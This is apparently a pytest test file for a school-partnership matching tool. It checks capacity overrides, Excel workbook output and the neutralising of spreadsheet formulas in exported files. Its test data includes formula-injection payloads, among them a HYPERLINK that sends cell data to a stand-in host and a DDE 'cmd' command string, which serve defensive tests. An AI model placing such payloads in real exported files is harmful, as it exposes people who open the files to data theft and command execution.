"""Batch matching as programme staff use it (issue 13): a capacity override never gives places to schools that
said "not looking", every file it writes neutralises spreadsheet formulas, and results come as an Excel workbook."""

from __future__ import annotations

import io
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from features.profile_files import save_profiles
from features.profiles import SchoolProfile
from matching.batch import AssignmentOptions, assign
from matching.core.engine import DATA_DIR_ENV
from matching.export import csv_text, excel_bytes, neutralise_cell, write_csv
from service.cli.main import app
from tests.support.factories import cohort, hashing_index

runner = CliRunner()


@pytest.fixture(autouse=True)
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Each test's caches in a data dir of its own."""
    monkeypatch.setenv(DATA_DIR_ENV, str(tmp_path / "data"))
    return tmp_path / "data"


FORMULAS = (
    '=HYPERLINK("http://x.example/?q="&A2,"details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(frame: pd.DataFrame) -> list[str]:
    """Text cells (numbers such as -0.01 are numbers, not formulas) a spreadsheet would run."""
    return [c for col in frame.columns for c in frame[col] if c.startswith(DANGEROUS_START) and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def not_looking_cohort(seed: int = 5) -> tuple[list[SchoolProfile], set[str]]:
    """A cohort where every third school has capacity 0 and every fifth (of the rest) is inactive."""
    out, closed = [], set()
    for i, p in enumerate(cohort(24, 30, seed)):
        if i % 3 == 0:
            p = p.model_copy(update={"capacity": 0, "active": True})
            closed.add(p.school_id)
        elif i % 5 == 0:
            p = p.model_copy(update={"capacity": 2, "active": False})
            closed.add(p.school_id)
        else:
            p = p.model_copy(update={"capacity": max(1, p.capacity), "active": True})
        out.append(p)
    return out, closed


def formula_cohort(seed: int = 6) -> list[SchoolProfile]:
    """A cohort whose school names are spreadsheet formulas (all taking partners)."""
    out = []
    for i, p in enumerate(cohort(10, 12, seed)):
        name = FORMULAS[i % len(FORMULAS)]
        out.append(p.model_copy(update={"name": name, "capacity": 2, "active": True}))
    return out


def test_capacity_override_never_gives_places_to_schools_not_looking() -> None:
    profiles, closed = not_looking_cohort()
    index = hashing_index(profiles)
    result = assign(index, options=AssignmentOptions(capacity=2, progress=False))
    matched = {s for pair in result.pairs for s in pair}
    assert len(result) > 0
    assert not matched & closed, f"schools not taking partners were matched: {sorted(matched & closed)}"
    reasons = {u.school_id: u.reason_code for u in result.unmatched}
    assert all(reasons[s] == "not_taking_partners" for s in closed)
    # the override still raises the capacity of the schools that are looking
    opened = [p for p in profiles if p.school_id not in closed]
    assert max(len(result.partners_of(p.school_id)) for p in opened) == 2
    assert result.diagnostics.n_uk_seeking == sum(p.is_uk and len(p.current_partners) < 2 for p in opened)


def test_capacity_override_on_the_command_line_skips_schools_not_looking(tmp_path: Path) -> None:
    profiles, closed = not_looking_cohort()
    registry = save_profiles(profiles, tmp_path / "cohort.csv")
    out = tmp_path / "pairs.csv"
    args = ["batch", str(registry), "--out", str(out), "--capacity", "2", "--encoder", "hashing", "--json"]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(out, dtype=str)
    assert len(frame) > 0
    assert not (set(frame.uk_school_id) | set(frame.partner_school_id)) & closed


def test_batch_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    index = hashing_index(formula_cohort())
    result = assign(index, options=AssignmentOptions(progress=False))
    path = result.to_csv(tmp_path / "pairs.csv", tmp_path / "unmatched.csv")
    frames = [pd.read_csv(path, dtype=str, keep_default_na=False)]
    frames.append(pd.read_csv(tmp_path / "unmatched.csv", dtype=str, keep_default_na=False))
    names = [n for f in frames for col in f.columns if col.endswith("name") for n in f[col]]
    assert names and all(not n.startswith(DANGEROUS_START) for n in names)
    assert {n[1:] for n in names} <= set(FORMULAS)  # readable: the name itself after one quote
    assert not [c for f in frames for c in formula_cells(f)]
    # the command line writes the same
    registry = save_profiles(formula_cohort(), tmp_path / "cohort.csv")
    out = tmp_path / "cli.csv"
    cli = runner.invoke(app, ["batch", str(registry), "--out", str(out), "--encoder", "hashing", "--json"])
    assert cli.exit_code == 0, cli.output
    for written in (out, tmp_path / "cli_unmatched.csv"):
        frame = pd.read_csv(written, dtype=str, keep_default_na=False)
        assert len(frame) and not formula_cells(frame)


@pytest.mark.parametrize("text", [*FORMULAS, "\tTAB", "\rCR"])
def test_export_neutralises_every_formula_start(text: str) -> None:
    assert neutralise_cell(text) == "'" + text
    assert neutralise_cell(-2.5) == -2.5 and neutralise_cell("School -2") == "School -2"
    frame = pd.DataFrame({"name": [text], "score": [-1.5]})
    read = pd.read_csv(io.StringIO(csv_text(frame)), dtype=str, keep_default_na=False)
    assert read.loc[0, "name"] == "'" + text and read.loc[0, "score"] == "-1.5"  # numbers stay numbers
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes({"t": frame})))
    cell = book["t"]["A2"]  # (XML stores a carriage return as a line feed)
    assert cell.value == ("'" + text).replace("\r", "\n") and cell.data_type == "s"
    assert book["t"]["B2"].value == -1.5


def test_evaluation_csv_files_neutralise_formula_cells(tmp_path: Path) -> None:
    history = pd.DataFrame({"school_a": ["=cmd()", "uk1"], "school_b": ["@SUM(1)", "ab2"]})
    text = write_csv(tmp_path / "h.csv", history).read_text()
    assert "'=cmd()" in text and "'@SUM(1)" in text and pd.read_csv(tmp_path / "h.csv").shape == (2, 2)


def test_batch_results_as_an_excel_workbook(tmp_path: Path) -> None:
    profiles, _ = not_looking_cohort()
    profiles = [p.model_copy(update={"name": FORMULAS[i % 4]}) if i % 7 == 1 else p for i, p in enumerate(profiles)]
    result = assign(hashing_index(profiles), options=AssignmentOptions(capacity=2, progress=False))
    path = result.to_excel(tmp_path / "round" / "batch.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["partnerships", "unmatched", "summary"]
    rows = list(book["partnerships"].iter_rows(values_only=True))
    assert list(rows[0]) == list(result.to_frame().columns) and len(rows) == len(result) + 1
    unmatched = list(book["unmatched"].iter_rows(values_only=True))
    assert unmatched[0][-2:] == ("reason_code", "reason") and len(unmatched) == len(result.unmatched) + 1
    summary = dict(list(book["summary"].iter_rows(values_only=True))[1:])
    assert summary["partnerships"] == len(result) and summary["mode"] == "optimal"
    cells = [c for sheet in book for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert all(not c.startswith(DANGEROUS_START) for c in cells)
    assert any(c == "'" + f for c in cells for f in FORMULAS)
    # the command line: --out x.xlsx (one workbook), or --excel next to the CSVs
    registry = save_profiles(profiles, tmp_path / "cohort.csv")
    base = ["batch", str(registry), "--encoder", "hashing", "--capacity", "2"]
    only = runner.invoke(app, [*base, "--output", str(tmp_path / "cli.xlsx"), "--json"])
    assert only.exit_code == 0, only.output
    assert json.loads(only.stdout)["workbook"] == str(tmp_path / "cli.xlsx")
    assert openpyxl.load_workbook(tmp_path / "cli.xlsx").sheetnames == ["partnerships", "unmatched", "summary"]
    both = runner.invoke(app, [*base, "--out", str(tmp_path / "p.csv"), "--excel", str(tmp_path / "p.xlsx")])
    assert both.exit_code == 0, both.output
    assert (tmp_path / "p.csv").is_file() and (tmp_path / "p_unmatched.csv").is_file()
    assert len(list(openpyxl.load_workbook(tmp_path / "p.xlsx")["partnerships"].iter_rows())) == len(result) + 1
    bad = runner.invoke(app, [*base, "--out", str(tmp_path / "p.txt")])
    assert bad.exit_code == 2 and ".xlsx" in bad.output
